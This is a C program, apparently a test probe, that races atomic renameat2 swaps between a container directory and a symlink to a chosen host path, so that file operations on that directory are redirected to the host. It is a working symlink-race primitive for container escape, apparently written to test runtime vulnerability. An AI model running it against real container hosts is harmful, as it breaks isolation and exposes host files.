// Symlink-swap race probe: in directory argv[2] (default /), makes d, a directory of 200 files
// and an empty subdirectory sub, and x, a symlink to argv[1] (a host path), prints "ready",
// then atomically exchanges the two names (renameat2 RENAME_EXCHANGE) forever, so that d is
// alternately the container's directory and a link to the host's.
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

int main(int argc, char **argv) {
    if (argc < 2) return 2;
    if (argc > 2 && chdir(argv[2]) != 0) { perror("chdir"); return 1; }
    if (argc <= 2 && chdir("/") != 0) { perror("chdir /"); return 1; }
    if (mkdir("d", 0755) != 0 || mkdir("d/sub", 0755) != 0) { perror("mkdir d"); return 1; }
    for (int i = 0; i < 200; i++) {
        char p[32];
        snprintf(p, sizeof p, "d/f%d", i);
        int fd = open(p, O_WRONLY | O_CREAT | O_TRUNC, 0644);
        if (fd < 0 || write(fd, "inner\n", 6) != 6) { perror(p); return 1; }
        close(fd);
    }
    if (symlink(argv[1], "x") != 0) { perror("symlink x"); return 1; }
    printf("ready\n");
    fflush(stdout);
    for (;;) {
        if (syscall(SYS_renameat2, AT_FDCWD, "d", AT_FDCWD, "x", RENAME_EXCHANGE) != 0) { perror("renameat2"); return 1; }
    }
}
